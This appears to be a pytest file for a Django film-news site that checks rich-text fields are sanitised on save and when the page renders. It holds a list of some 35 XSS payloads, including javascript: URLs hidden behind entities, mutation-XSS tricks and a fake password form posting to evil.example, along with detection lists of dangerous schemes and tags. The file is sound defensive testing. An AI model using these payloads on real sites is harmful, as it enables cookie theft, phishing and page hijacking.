"""Rich text is sanitised on every save: hostile HTML never reaches the stored body or the page.

Stored HTML is read with a real parser, so that an attribute hidden behind entities,
odd case or broken markup is seen the way a browser would see it.
"""

from html.parser import HTMLParser

import pytest
from django.urls import reverse

from articles.models import Article
from filmhub.models import City
from filmhub.richtext import sanitise_html
from tests.factories import ArticleFactory, CityFactory, EventFactory, ProgrammeFactory

pytestmark = pytest.mark.django_db

ARTICLE_ADD = reverse("admin:articles_article_add")

# What the editor's extensions (filmhub.richtext.EDITOR_EXTENSIONS) can make, and no more.
ALLOWED_TAGS = {
    "a",
    "blockquote",
    "br",
    "em",
    "h2",
    "h3",
    "h4",
    "hr",
    "li",
    "ol",
    "p",
    "s",
    "strong",
    "sub",
    "sup",
    "ul",
}
ALLOWED_ATTRIBUTES = {"a": {"href", "rel", "title"}}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
EXECUTABLE_TAGS = {"script", "iframe", "object", "embed", "form", "base", "frame", "frameset"}

HOSTILE_HTML = {
    "script": "<p>Before</p><script>alert(document.cookie)</script><p>After</p>",
    "script-mixed-case": "<ScRiPt>alert(1)</sCrIpT>",
    "img-onerror": '<img src=x onerror="alert(1)">',
    "link-javascript": '<a href="javascript:alert(1)">Win a prize</a>',
    "link-javascript-mixed-case": '<a href="JaVaScRiPt:alert(1)">Win a prize</a>',
    "link-javascript-entities": '<a href="&#106;avascript&#58;alert(1)">Win</a>',
    "link-javascript-hex-entities": '<a href="&#x6A;avascript:alert(1)">Win</a>',
    "link-javascript-tab-inside": '<a href="java&#x09;script:alert(1)">Win</a>',
    "link-javascript-leading-space": '<a href="  javascript:alert(1)">Win</a>',
    "link-vbscript": '<a href="vbscript:msgbox(1)">Win</a>',
    "link-data-url": (
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Open</a>'
    ),
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object-and-embed": '<object data="evil.swf"></object><embed src="evil.swf">',
    "style-attribute": '<p style="background:url(javascript:alert(1))">Styled</p>',
    "style-element": "<style>body { display: none }</style><p>Hidden page</p>",
    "svg-onload": '<svg onload="alert(1)"><p>Inside</p></svg>',
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "math-mglyph-style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "math-href": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "paragraph-onclick": '<p onclick="alert(1)">Click me</p>',
    "link-onmouseover": '<a href="https://example.org" onmouseover="alert(1)">Hover</a>',
    "strong-onfocus": '<strong tabindex="1" onfocus="alert(1)" autofocus>Look</strong>',
    "form-and-input": (
        '<form action="https://evil.example/steal"><input name="password" type="password">'
        '<button formaction="javascript:alert(1)">Log in</button></form>'
    ),
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base-href": '<base href="https://evil.example/">',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "unclosed-tags": '<p><strong>Unclosed <a href="javascript:alert(1)" onclick="alert(1)"',
    "nested-script-trick": "<<script>script>alert(1)<</script>/script>",
    "noscript-attribute-breakout": (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'
    ),
    "comment-breakout": "<!--><script>alert(1)</script>-->",
    "cdata-trick": "<![CDATA[><script>alert(1)</script>]]>",
    "template-element": "<template><script>alert(1)</script></template>",
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>More</summary></details>",
}


class Elements(HTMLParser):
    """Every start tag with its attributes, character references decoded as a browser does."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []

    def record(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_starttag(self, tag, attrs):
        self.record(tag, attrs)

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    # Comments, CDATA and processing instructions are where this parser and a browser's
    # disagree most ("<!-->" ends a comment in a browser), so their mere presence counts.
    def handle_comment(self, data):
        self.record("!--", [])

    def handle_decl(self, decl):
        self.record("!", [])

    def unknown_decl(self, data):
        self.record("![", [])

    def handle_pi(self, data):
        self.record("?", [])


class BodyElements(Elements):
    """Only the elements inside <div class="body">, where templates put rich text."""

    def __init__(self):
        super().__init__()
        self.depth = 0
        self.found = False

    def record(self, tag, attrs):
        if self.depth:
            super().record(tag, attrs)

    def handle_starttag(self, tag, attrs):
        if self.depth:
            if tag == "div":
                self.depth += 1
            self.record(tag, attrs)
        elif tag == "div" and "body" in (dict(attrs).get("class") or "").split():
            self.depth = 1
            self.found = True

    def handle_endtag(self, tag):
        if self.depth and tag == "div":
            self.depth -= 1


def parse(html: str, parser_class: type[Elements] = Elements) -> Elements:
    parser = parser_class()
    parser.feed(html)
    parser.close()
    return parser


def url_is_dangerous(value: str) -> bool:
    # Browsers ignore ASCII whitespace and control characters in a URL's scheme.
    squeezed = "".join(character for character in value if character > " ").lower()
    return squeezed.startswith(DANGEROUS_SCHEMES) or "url=javascript:" in squeezed


def dangers(elements: list[tuple[str, dict[str, str]]]) -> list[str]:
    """What a browser could run or be restyled by, or what the editor cannot make."""
    found = []
    for tag, attributes in elements:
        if tag not in ALLOWED_TAGS:
            found.append(f"<{tag}>")
        for name, value in attributes.items():
            if name.startswith("on"):
                found.append(f"<{tag} {name}>")
            elif name == "style":
                found.append(f"<{tag} style>")
            elif url_is_dangerous(value):
                found.append(f"<{tag} {name}={value!r}>")
            elif name not in ALLOWED_ATTRIBUTES.get(tag, set()):
                found.append(f"<{tag} {name}> not allowed")
    return found


def stored_body_dangers(html: str) -> list[str]:
    # Templates put more markup after the body: an unclosed tag at the end would close there.
    return dangers(parse(f"{html}</div>").elements)


hostile = pytest.mark.parametrize(
    "payload", list(HOSTILE_HTML.values()), ids=list(HOSTILE_HTML.keys())
)


@hostile
def test_payload_is_hostile_before_sanitising(payload):
    """Guards the other tests: each payload really carries something to remove."""
    assert stored_body_dangers(payload)


@hostile
def test_model_save_sanitises_hostile_html(payload):
    article = ArticleFactory(body=payload)
    article.refresh_from_db()

    assert stored_body_dangers(article.body) == []
    assert "<script" not in article.body.lower()


@hostile
def test_admin_form_sanitises_hostile_html(editor_client, payload):
    response = editor_client.post(
        ARTICLE_ADD,
        {
            "title_en": "Hostile body",
            "slug": "",
            "kind": "news",
            "summary_en": "",
            "body_en": payload,
            "body_ko": payload,
            "source_name": "",
            "source_url": "",
            "status": "draft",
            "publish_at_0": "",
            "publish_at_1": "",
            "opened_version": "",
            "_save": "Save",
        },
    )

    assert response.status_code == 302, response.context["adminform"].form.errors
    article = Article.objects.get(title="Hostile body")
    assert stored_body_dangers(article.body_en) == []
    # The Korean version is sanitised as the English one is.
    assert stored_body_dangers(article.body_ko) == []


@hostile
def test_public_page_shows_no_hostile_markup(client, payload):
    article = ArticleFactory(body=f"<p>Marker paragraph</p>{payload}")

    response = client.get(article.get_absolute_url())

    assert response.status_code == 200
    page = response.content.decode()
    body = parse(page, BodyElements)
    assert body.found
    assert ("p", {}) in body.elements
    assert dangers(body.elements) == []
    # The rest of the page comes from templates, not from editors; it must stay clean too.
    for tag, attributes in parse(page).elements:
        # JSON-LD is a data block that browsers never run; test_seo.py checks that no
        # text can break out of it.
        if (tag, attributes.get("type")) == ("script", "application/ld+json"):
            continue
        # The header's site search form, which only ever GETs /search/.
        if tag == "form" and attributes.get("role") == "search":
            assert attributes.get("action") == reverse("filmhub:search")
            continue
        assert tag not in EXECUTABLE_TAGS
        assert not any(name.startswith("on") for name in attributes)
        assert not any(url_is_dangerous(value) for value in attributes.values())


@pytest.mark.parametrize(
    ("factory", "field"),
    [
        (ArticleFactory, "body"),
        (ProgrammeFactory, "body"),
        (EventFactory, "body"),
        (CityFactory, "profile"),
    ],
)
def test_every_rich_text_field_sanitises_on_save(factory, field):
    item = factory(**{field: HOSTILE_HTML["paragraph-onclick"] + HOSTILE_HTML["script"]})
    item.refresh_from_db()

    assert getattr(item, field) == "<p>Click me</p><p>Before</p><p>After</p>"


def test_text_survives_when_its_hostile_markup_is_removed():
    article = ArticleFactory(body=HOSTILE_HTML["style-attribute"] + HOSTILE_HTML["link-javascript"])
    article.refresh_from_db()

    assert article.body == "<p>Styled</p><a>Win a prize</a>"


ALLOWED_HTML = (
    "<h2>Heading</h2><h3>Subheading</h3><h4>Minor heading</h4>"
    "<p><strong>Bold</strong> and <em>italic</em>, <s>struck</s>, H<sub>2</sub>O, "
    'x<sup>2</sup>, <a href="https://example.org/festival" title="Festival">a link</a>, '
    '<a href="http://example.org/">a plain link</a> and '
    '<a href="mailto:press@example.org">an address</a>.<br>Next line.</p>'
    "<ul><li><p>One</p></li><li><p>Two</p></li></ul>"
    "<ol><li><p>First</p></li></ol>"
    "<blockquote><p>A quotation.</p></blockquote><hr>"
)


def test_allowed_markup_survives_a_model_save():
    article = ArticleFactory(body=ALLOWED_HTML)
    article.refresh_from_db()

    assert article.body == ALLOWED_HTML


def test_allowed_markup_survives_the_admin_form(editor_client):
    response = editor_client.post(
        ARTICLE_ADD,
        {
            "title_en": "Friendly body",
            "kind": "feature",
            "body_en": ALLOWED_HTML,
            "status": "draft",
            "opened_version": "",
            "_save": "Save",
        },
    )

    assert response.status_code == 302, response.context["adminform"].form.errors
    assert Article.objects.get(title="Friendly body").body == ALLOWED_HTML


def test_allowed_markup_reaches_the_public_page(client):
    article = ArticleFactory(body=ALLOWED_HTML)

    response = client.get(article.get_absolute_url())

    assert ALLOWED_HTML in response.content.decode()


def test_sanitise_html_uses_the_same_allow_list_as_the_fields():
    payload = HOSTILE_HTML["paragraph-onclick"] + ALLOWED_HTML + HOSTILE_HTML["iframe"]
    city = CityFactory(profile=payload)
    city.refresh_from_db()

    assert sanitise_html(payload) == City.objects.get(pk=city.pk).profile
    assert sanitise_html(payload) == "<p>Click me</p>" + ALLOWED_HTML


@pytest.mark.django_db
def test_markup_written_past_the_save_hook_is_cleaned_on_the_page(client):
    """A revision restore or bulk update writes rows raw; the page cleans them again."""
    article = ArticleFactory(body="<p>Safe</p>")
    Article.objects.filter(pk=article.pk).update(
        body='<p onclick="steal()">Hi</p><script>alert(1)</script>'
    )

    page = client.get(article.get_absolute_url()).text

    assert "steal()" not in page
    assert "alert(1)" not in page
    assert "<p>Hi</p>" in page
